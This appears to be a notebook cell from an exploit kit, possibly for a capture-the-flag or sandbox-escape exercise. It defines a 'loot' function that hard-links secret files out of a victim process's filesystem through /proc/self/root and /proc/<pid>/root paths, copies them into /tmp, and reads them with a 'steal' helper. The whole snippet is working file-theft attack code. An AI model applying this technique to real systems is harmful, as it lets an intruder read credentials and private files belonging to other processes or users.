# %%
from kit import *

# %%
def loot():
    for name in ("secrets", "other"):
        real = WORLD[name]
        for source in (real, "/proc/self/root" + real, f"/proc/{WORLD['victim']}/root" + real):
            possible(os.link, source, name)
            possible(os.link, source, f"/tmp/{WORLD['mark']}-{name}")
    found = [steal(name) or steal(f"/tmp/{WORLD['mark']}-{name}") for name in ("secrets", "other")]
    return found[0] or found[1]
